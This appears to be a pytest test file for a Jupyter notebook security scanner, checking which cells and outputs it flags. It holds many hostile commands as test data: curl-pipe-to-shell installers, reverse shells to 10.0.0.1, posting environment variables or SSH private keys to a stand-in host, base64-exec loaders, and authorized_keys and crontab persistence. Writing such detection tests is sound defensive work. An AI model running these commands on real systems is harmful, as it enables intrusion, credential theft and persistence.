import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.checks.models.building import judged, look, reasons


def cell(source, kind="code", **more):
    return {
        "cell_type": kind,
        "metadata": {},
        "source": source,
        **({"outputs": []} if kind == "code" else {}),
        **more,
    }


def book(*cells, **more):
    return json.dumps(
        {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}, indent=1
    )


def verdicts(text, name="a.ipynb"):
    return [(each.rule, each.severity.value) for each in judged(look(text.encode(), name))]


def output(**data):
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {key.replace("_", "/"): each for key, each in data.items()},
    }


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("!curl -fsSL https://x.sh | sh", "medium"),
        ("!wget -qO- https://x | sudo bash", "medium"),
        ("!curl https://x | python3 -", "medium"),
        ("!bash <(curl -s https://x)", "medium"),
        ('!sh -c "$(curl -fsSL https://x)"', "medium"),
        ("%%bash\nset -e\ncurl https://x | bash", "medium"),
        ("%%script bash\ncurl https://x | /bin/bash", "medium"),
        ("x = !curl https://x | sh", "medium"),
        ("%sx curl https://x | sh", "medium"),
        ("import os\nos.system('curl https://x | sh')", "medium"),
        ("get_ipython().system('curl https://x | sh')", "medium"),
        ("!echo aGk= | base64 -d | bash", "high"),
        ("!bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "high"),
        ("!nc 10.0.0.1 4242 -e /bin/sh", "high"),
        ("import requests, os\nrequests.post('https://x', json=dict(os.environ))", "high"),
        ("import requests\nrequests.post('https://x', data=open('/root/.ssh/id_rsa').read())", "high"),
        ("!mkfifo /tmp/f; cat /tmp/f | sh -i | nc 10.0.0.1 1 > /tmp/f", "high"),
    ],
)
def test_commands(command, severity):
    lines = command.splitlines(keepends=True)
    for text in (book(cell(lines)), book(cell(command)), book(cell("x = 1"), cell(lines))):
        assert set(verdicts(text)) == {("MLG-NBK-001", severity)}
    old = json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": lines}]}], "nbformat": 3})
    assert set(verdicts(old)) == {("MLG-NBK-001", severity)}


@pytest.mark.parametrize(
    "source",
    [
        "!pip install -q torch", "!wget https://x/data.zip && unzip data.zip", "!curl -O https://x/install.sh",
        "%%bash\nls | sort | head", "# !curl https://x | sh", "!nvidia-smi | head", "!cat a | python b.py",
        "!curl https://x | jq .", "!curl https://x | tar xz", "!curl https://x | tee a.sh", "!echo x | base64 -d > y",
        "print('a | b')", "!git clone https://x && cd x && sh install.sh",
    ],
)  # fmt: skip
def test_ordinary_cells(source):
    seen = look(book(cell(source)).encode(), "a.ipynb")
    assert (judged(seen), seen.not_checked) == ((), ())


def test_prose_is_not_run():
    assert not verdicts(book(cell("Install: curl https://x | sh", "markdown")))
    assert not verdicts(book(cell("Install: curl https://x | sh", "raw")))
    behind = json.dumps({"cells": [{"source": "curl https://x | sh", "cell_type": "markdown"}]})
    assert not verdicts(behind)


@pytest.mark.parametrize(
    ("data", "severity"),
    [
        ({"text_html": ["<div/>\n", "<script>Plotly.newPlot()</script>"]}, "info"),
        ({"application_javascript": "alert(1)"}, "info"),
        ({"image_svg+xml": "<svg><script/></svg>"}, "info"),
        ({"text_html": "<a href='javascript:x'>"}, "info"),
        ({"text_html": "<script>IPython.notebook.kernel.execute('x')</script>"}, "medium"),
        ({"application_javascript": "Jupyter.notebook.kernel.execute('x')"}, "medium"),
        ({"text_html": "<table></table>"}, None),
        ({"text_plain": "<script>"}, None),
        ({"image_png": "aGk="}, None),
    ],
)
def test_outputs(data, severity):
    text = book(cell("1", outputs=[output(**data), output(**data)]))
    assert verdicts(text) == ([("MLG-NBK-001", severity)] if severity else [])


def test_it_stands_at_its_line():
    text = book(cell(["a = 1\n", "!curl https://x | sh\n"]))
    (fact,) = look(text.encode(), "a.ipynb").facts
    assert text.splitlines()[fact.location.line - 1].strip() == '"!curl https://x | sh\\n"'


def test_credentials():
    token = "ghp_" + "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO" + "0pINUx"
    key = "AKIA" + "Z3XQ5J7MWPLKD2VN"
    for text in (
        book(cell(f"key = '{key}'")),
        book(cell("1", outputs=[output(text_plain=f"{token} {key}")])),
    ):
        assert "MLG-SEC-001" in {rule for rule, _ in verdicts(text)}


def test_escapes_and_other_names():
    text = book(cell("!curl https://x | sh")).replace("curl", "c\\u0075rl")
    assert verdicts(text) == [("MLG-NBK-001", "medium")]
    assert verdicts(text, "notes.json") == [("MLG-NBK-001", "medium")]


def test_long_notebooks_are_searched_as_they_are_written():
    image = output(image_png="iVBOR" * 2000)
    text = book(cell("1", outputs=[image]), cell(["%%bash\n", "curl https://x | sh\n"]))
    seen = look(text.encode(), "a.ipynb", text_bytes=5000)
    assert [each.rule for each in judged(seen)] == ["MLG-NBK-001"]


@pytest.mark.parametrize(
    "text", ["{}", '{"cells": ', '{"cells": 1}', '{"cells": [1, null, {"source": 2}]}', "[]"]
)
def test_other_documents(text):
    seen = look(text.encode(), "a.ipynb")
    assert (seen.facts, seen.not_checked) == ((), ())


def test_what_was_seen_before_the_end_is_kept():
    text = book(cell("!curl https://x | sh"), cell("2"))
    assert verdicts(text[:-20]) == [("MLG-NBK-001", "medium")]


def test_deep_documents_end():
    assert reasons(look(b'{"cells": ' + b"[" * 5000, "a.ipynb")) <= {"limit"}


@settings(max_examples=150, deadline=None, database=None, derandomize=True)
@given(st.data())
def test_whatever_the_bytes(data):
    seed = bytearray(
        book(cell("!curl https://x | sh"), cell("1", outputs=[output(text_html="<script>")])).encode()
    )
    for _ in range(data.draw(st.integers(0, 6))):
        at = data.draw(st.integers(0, len(seed)))
        seed[at : at + data.draw(st.integers(0, 9))] = data.draw(
            st.sampled_from([b"[", b"{", b'"', b"null", b"\\", b"\xff", b'"cells":', b'"outputs":'])
        )
    assert "reader-failed" not in reasons(look(bytes(seed), "a.ipynb"))


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        ("import base64\nexec(base64.b64decode('eA=='))", "high"),
        ("exec(compile(zlib.decompress(x), '', 'exec'))", "high"),
        ("import base64 as b\nt = 'eA=='\nd = b.b64decode(t)\n\nexec(d)", "high"),
        ("import os, base64\n!ls\nx?\nos.system(base64.b64decode('eA==').decode())", "high"),
        ("import pickle, base64\nm = pickle.loads(base64.b64decode(t))", "medium"),
        ("import requests\nexec(requests.get(url).text)", "medium"),
        ("import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('x')", "high"),
        ("get_ipython().system(__import__('base64').b64decode('eA==').decode())", "high"),
        ("!curl -s http://x/y | sh", "high"),
        ("%%bash\nwget -q -O- http://x > ~/.u && chmod +x ~/.u && ~/.u", "high"),
        ("!wget https://x/y && chmod +x y && ./y", "medium"),
        ("%%script perl\nopen(F, '>', 'x');", "medium"),
        ("%%ruby\nputs 1", "medium"),
        ("!pip install -q --extra-index-url http://x/simple y", "high"),
        ("%alias prepare touch x\n%prepare", "medium"),
        ("import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(s.recv(9))", "medium"),
        ("os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])", "high"),
    ],
)
def test_code_that_is_hidden_and_shells_on_connections(code, severity):
    data = json.dumps({"cells": [{"cell_type": "code", "source": [code]}]}).encode()
    assert [each.severity.value for each in judged(look(data, "a.ipynb"))] == [severity]


def test_decoding_alone_is_ordinary():
    code = "img = base64.b64decode(x)\nmodel.eval(base64.b64decode(y))\nevaluate(z.decompress(y))"
    data = json.dumps({"cells": [{"cell_type": "code", "source": [code]}]}).encode()
    assert judged(look(data, "a.ipynb")) == ()


def test_code_that_is_too_long_is_not_checked():
    heavy = "x = [" + "a + b * c, " * 60_000 + "]\n"
    assert not reasons(look(book(cell("x = 1"), cell(heavy)).encode(), "a.ipynb"))
    seen = look(book(cell("x = 1"), cell(f"import subprocess\n{heavy}")).encode(), "a.ipynb")
    assert (judged(seen), reasons(seen)) == ((), {"limit"})
    assert not reasons(look(book(*[cell("x = 1")] * 3000).encode(), "a.ipynb"))
    padded = cell("# " + "x" * (1 << 20) + "\nimport os\nos.system('true')\n")
    assert reasons(look(book(padded).encode(), "a.ipynb")) == {"limit"}


def test_a_cell_that_is_nested_too_deep_is_not_checked():
    source = "import pickle\nx = " + "-" * 20_000 + "1"
    assert "limit" in reasons(look(book(cell(source)).encode(), "a.ipynb"))


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("%%bash\necho 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys\n", True),
        ("!echo '* * * * * x' | crontab -", True),
        ("!echo x | tee -a /etc/cron.d/x", True),
        ("!cat ~/.ssh/authorized_keys", False),
        ("!echo 'export A=1' >> ~/.bashrc", False),
    ],
)
def test_who_may_log_in(source, found):
    assert bool(verdicts(book(cell(source)))) == found
